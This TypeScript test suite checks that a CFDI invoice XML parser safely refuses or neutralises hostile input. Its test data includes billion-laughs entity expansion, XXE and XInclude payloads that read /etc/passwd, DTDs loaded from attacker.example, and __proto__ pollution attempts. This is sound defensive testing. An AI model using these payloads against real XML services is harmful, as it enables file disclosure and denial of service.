/**
 * The files come from outside: every malicious pattern gets a clear message, never an exception,
 * never a resource blow-up, never a different reading than the one a strict XML parser gives.
 */
import { MSG } from "@portal/contracts/messages";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { CFDI_MSG, classifyCfdi, MAX_XML_BYTES, readInvoice, readPaymentComplement, validateCfdi } from "../src/index";
import { fixtureText, invoiceXml, paymentXml } from "./helpers";

function errorsOf(result: { ok: boolean; errors?: string[] }): string[] {
  if (result.ok) throw new Error("se esperaba un error");
  return result.errors ?? [];
}

const DOCTYPE_REFUSAL = [MSG.xmlSinTimbre, CFDI_MSG.xmlDoctype];

describe("entities and DOCTYPE", () => {
  it("refuses entity expansion (billion laughs) before expanding anything", () => {
    const lol = [
      '<?xml version="1.0"?>',
      "<!DOCTYPE lolz [",
      ' <!ENTITY lol "lol">',
      ...Array.from({ length: 9 }, (_, k) => ` <!ENTITY lol${k + 1} "${`&lol${k === 0 ? "" : k};`.repeat(10)}">`),
      "]>",
      `<cfdi:Comprobante xmlns:cfdi="http://www.sat.gob.mx/cfd/4" Version="4.0" Total="&lol9;"/>`,
    ].join("\n");
    // Refused at the DOCTYPE, so nothing is expanded (its time: `npm run bench:hostil`).
    expect(errorsOf(readInvoice(lol))).toEqual(DOCTYPE_REFUSAL);
  });

  it("refuses external entities (XXE) and parameter entities", () => {
    const xxe = invoiceXml({
      declaration: '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
      receptor: { Nombre: "PLACEHOLDER" },
    }).replace('"PLACEHOLDER"', '"&xxe;"');
    expect(errorsOf(readInvoice(xxe))).toEqual(DOCTYPE_REFUSAL);
    const param = '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><r/>';
    expect(errorsOf(readInvoice(param))).toEqual(DOCTYPE_REFUSAL);
    const publicId = '<!DOCTYPE cfdi PUBLIC "-//X//EN" "http://attacker.example/x.dtd"><r/>';
    expect(errorsOf(readPaymentComplement(publicId))).toEqual(DOCTYPE_REFUSAL);
  });

  it("refuses an entity reference without a DTD (no silent pass-through of &xxe;)", () => {
    const xml = invoiceXml({ receptor: { Nombre: "PLACEHOLDER" } }).replace('"PLACEHOLDER"', '"&xxe;"');
    const errors = errorsOf(readInvoice(xml));
    expect(errors[0]).toBe(MSG.xmlSinTimbre);
    expect(errors[1]).toMatch(/^El XML no está bien formado: la entidad «&xxe;» no está declarada/);
  });

  it("does not follow XInclude or schemaLocation: they are inert elements and attributes", () => {
    const xml = invoiceXml({
      afterComplemento:
        '<cfdi:Addenda><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></cfdi:Addenda>',
    });
    expect(readInvoice(xml).ok).toBe(true);
  });
});

describe("well-formedness is strict: never 'last one wins'", () => {
  it("refuses a repeated attribute in the CFDI", () => {
    const xml = invoiceXml().replace('Total="953.33"', 'Total="953.33" Total="1.00"');
    const errors = errorsOf(readInvoice(xml));
    expect(errors[1]).toMatch(/el atributo Total está repetido en <cfdi:Comprobante>/);
  });

  it("refuses the same attribute written with two prefixes of one namespace", () => {
    const xml = invoiceXml().replace(
      "<cfdi:Emisor ",
      '<cfdi:Emisor xmlns:a="urn:x" xmlns:b="urn:x" a:Rfc="AAA010101AAA" b:Rfc="BBB010101BBB" ',
    );
    expect(errorsOf(readInvoice(xml))[1]).toMatch(/repetido/);
  });

  it("refuses a duplicated Emisor instead of reading one of them", () => {
    const xml = invoiceXml().replace(
      /(<cfdi:Emisor [^>]*\/>)/,
      '$1<cfdi:Emisor Rfc="OTR010101AB1" Nombre="OTRO" RegimenFiscal="601"/>',
    );
    expect(errorsOf(readInvoice(xml))).toEqual([MSG.xmlSinTimbre, CFDI_MSG.nodoRepetido("cfdi:Emisor")]);
  });
});

describe("__proto__ and other dangerous names", () => {
  it("reads a CFDI carrying __proto__/constructor elements and attributes without touching prototypes", () => {
    const xml = invoiceXml({
      comprobante: { ["__proto__"]: "x", constructor: "y", prototype: "z" },
      afterComplemento:
        '<cfdi:__proto__ polluted="yes"><constructor><prototype polluted="yes"/></constructor></cfdi:__proto__>',
    });
    expect(xml).toContain(' __proto__="x" constructor="y"');
    const result = readInvoice(xml);
    expect(result.ok).toBe(true);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getPrototypeOf({})).toBe(Object.prototype);
    expect(Object.hasOwn(Object.prototype, "polluted")).toBe(false);
  });

  it("treats a type or code named like an Object.prototype member as an unknown string", () => {
    const legacy =
      '<cfdi:Comprobante xmlns:cfdi="http://www.sat.gob.mx/cfd/3" version="3.2" tipoDeComprobante="__proto__"/>';
    expect(errorsOf(readInvoice(legacy))).toEqual([
      "El XML es un CFDI versión 3.2 con TipoDeComprobante «__proto__», que no existe en el catálogo del SAT; se espera una factura: un CFDI versión 4.0 de tipo I (Ingreso).",
    ]);
    const result = readInvoice(invoiceXml({ comprobante: { FormaPago: "99" }, receptor: { UsoCFDI: "CONS" } }));
    expect(result.ok && result.warnings).toEqual(["UsoCFDI «CONS» no existe en el catálogo c_UsoCFDI del SAT."]);
    expect(classifyCfdi(invoiceXml({ comprobante: { TipoDeComprobante: "constructor" } }))).toBe("otro");
  });

  it("does not take inherited properties for attributes", () => {
    const xml = invoiceXml({ comprobante: { Folio: null } });
    const result = readInvoice(xml, { variant: "actualizacion" });
    expect(errorsOf(result)).toEqual([CFDI_MSG.faltaFolio]);
  });
});

describe("size cap (checked before decoding or parsing)", () => {
  it("refuses 50 MB at once, as bytes and as a string", () => {
    const bytes = new Uint8Array(50 * 1024 * 1024);
    const text = "<".padEnd(50 * 1024 * 1024, "a");
    const tooLarge = [MSG.xmlSinTimbre, CFDI_MSG.xmlDemasiadoGrande(MAX_XML_BYTES)];
    expect(errorsOf(readInvoice(bytes))).toEqual(tooLarge);
    expect(errorsOf(readInvoice(text))).toEqual(tooLarge);
    expect(errorsOf(readPaymentComplement(bytes))).toEqual(tooLarge);
    expect(classifyCfdi(bytes)).toBe("otro");
    expect(CFDI_MSG.xmlDemasiadoGrande(MAX_XML_BYTES)).toBe(
      "El XML excede el tamaño máximo permitido (2 MB); un CFDI no debería ser tan grande.",
    );
  });

  it("counts UTF-8 bytes, not UTF-16 code units", () => {
    const padding = (n: number) => `<!--${"é".repeat(n)}-->`; // é is 2 bytes in UTF-8
    const base = invoiceXml();
    const fits = base + padding(Math.floor((MAX_XML_BYTES - base.length - 8) / 2));
    expect(fits.length).toBeLessThan(MAX_XML_BYTES);
    expect(readInvoice(fits).ok).toBe(true);
    const over = base + padding(Math.floor((MAX_XML_BYTES - base.length) / 2) + 10);
    expect(over.length).toBeLessThan(MAX_XML_BYTES); // under the cap in code units, over it in bytes
    expect(errorsOf(readInvoice(over))[1]).toBe(CFDI_MSG.xmlDemasiadoGrande(MAX_XML_BYTES));
  });

  it("honours a caller's cap", () => {
    expect(errorsOf(readInvoice(invoiceXml(), { maxBytes: 1024 }))[1]).toBe(
      "El XML excede el tamaño máximo permitido (1 KB); un CFDI no debería ser tan grande.",
    );
  });
});

describe("binary and odd input", () => {
  it("says what a PDF, an image or binary data is", () => {
    expect(errorsOf(readInvoice(new TextEncoder().encode("%PDF-1.7\n...")))).toEqual([
      MSG.xmlSinTimbre,
      "El archivo no es un XML: su contenido es de un archivo PDF.",
    ]);
    expect(errorsOf(readInvoice(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2])))).toEqual([
      MSG.xmlSinTimbre,
      "El archivo no es un XML: su contenido es de un archivo imagen PNG.",
    ]);
    expect(errorsOf(readInvoice(new Uint8Array([0x3c, 0x61, 0x00, 0x3e])))).toEqual([
      MSG.xmlSinTimbre,
      CFDI_MSG.xmlBinario,
    ]);
    expect(errorsOf(readInvoice("<a>\u0000</a>"))).toEqual([MSG.xmlSinTimbre, CFDI_MSG.xmlBinario]);
  });

  it("refuses invalid UTF-8 and UTF-16 instead of guessing", () => {
    expect(errorsOf(readInvoice(new Uint8Array([0x3c, 0x61, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e])))).toEqual([
      MSG.xmlSinTimbre,
      CFDI_MSG.xmlNoUtf8,
    ]);
    const utf16 = new Uint8Array([0xff, 0xfe, ...[...new TextEncoder().encode("<a/>")].flatMap((b) => [b, 0])]);
    expect(errorsOf(readInvoice(utf16))).toEqual([MSG.xmlSinTimbre, CFDI_MSG.xmlUtf16]);
  });

  it("refuses empty input and values that are not text or bytes", () => {
    expect(errorsOf(readInvoice(""))).toEqual([MSG.xmlSinTimbre, CFDI_MSG.xmlVacio]);
    expect(errorsOf(readInvoice("   \n"))).toEqual([MSG.xmlSinTimbre, CFDI_MSG.xmlVacio]);
    expect(errorsOf(readInvoice(new Uint8Array()))).toEqual([MSG.xmlSinTimbre, CFDI_MSG.xmlVacio]);
    for (const junk of [null, undefined, 42, {}, ["<a/>"]]) {
      expect(errorsOf(readInvoice(junk as unknown as string))).toEqual([MSG.xmlSinTimbre, CFDI_MSG.xmlSinContenido]);
      expect(classifyCfdi(junk as unknown as string)).toBe("otro");
    }
  });

  it("survives 10 000 nested elements in an Addenda (no recursion, a depth limit)", () => {
    const deep = `<cfdi:Addenda>${"<x>".repeat(10_000)}${"</x>".repeat(10_000)}</cfdi:Addenda>`;
    const errors = errorsOf(readInvoice(invoiceXml({ afterComplemento: deep })));
    expect(errors[1]).toMatch(/anidamiento de elementos excede 100 niveles/);
  });

  it("reads many declaring elements under a crowded namespace scope", () => {
    const crowded = Array.from({ length: 120 }, (_, k) => `xmlns:p${k}="urn:${k}"`).join(" ");
    const child = '<x xmlns:z="urn:z"/>';
    const addenda = `<cfdi:Addenda><w ${crowded}>${child.repeat(Math.floor(1_900_000 / child.length))}</w></cfdi:Addenda>`;
    // Read correctly; how long it takes is a figure of `npm run bench:hostil`, not a timed test.
    expect(readInvoice(invoiceXml({ afterComplemento: addenda })).ok).toBe(true);
  });

  it("reads a 1.9 MB attribute value", () => {
    const xml = invoiceXml({ afterComplemento: `<cfdi:Addenda><a v="${"A".repeat(1_900_000)}"/></cfdi:Addenda>` });
    expect(readInvoice(xml).ok).toBe(true);
  });
});

describe("never throws (properties)", () => {
  const invoice = fixtureText("cfdiutils__cfdi40-real.xml");
  const payment = paymentXml();

  it("on random bytes and strings", () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.uint8Array({ maxLength: 400 }), fc.string({ unit: "binary", maxLength: 400 })),
        (input) => {
          for (const result of [readInvoice(input), readPaymentComplement(input), validateCfdi(input)]) {
            expect(result.ok).toBe(false);
            expect((result as { errors: string[] }).errors.length).toBeGreaterThan(0);
          }
          expect(["factura", "pago", "otro"]).toContain(classifyCfdi(input));
        },
      ),
      { numRuns: 300 },
    );
  });

  it("on truncated and spliced CFDI", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(invoice, payment),
        fc.nat(),
        fc.nat(),
        fc.string({ maxLength: 12 }),
        (text, a, b, insert) => {
          const i = a % text.length;
          const j = Math.min(text.length, i + (b % 64));
          const mutated = text.slice(0, i) + insert + text.slice(j);
          for (const result of [readInvoice(mutated), readPaymentComplement(mutated)]) {
            expect(typeof result.ok).toBe("boolean");
            if (!result.ok) expect(result.errors.every((e) => typeof e === "string" && e.length > 0)).toBe(true);
          }
        },
      ),
      { numRuns: 500 },
    );
  });
});
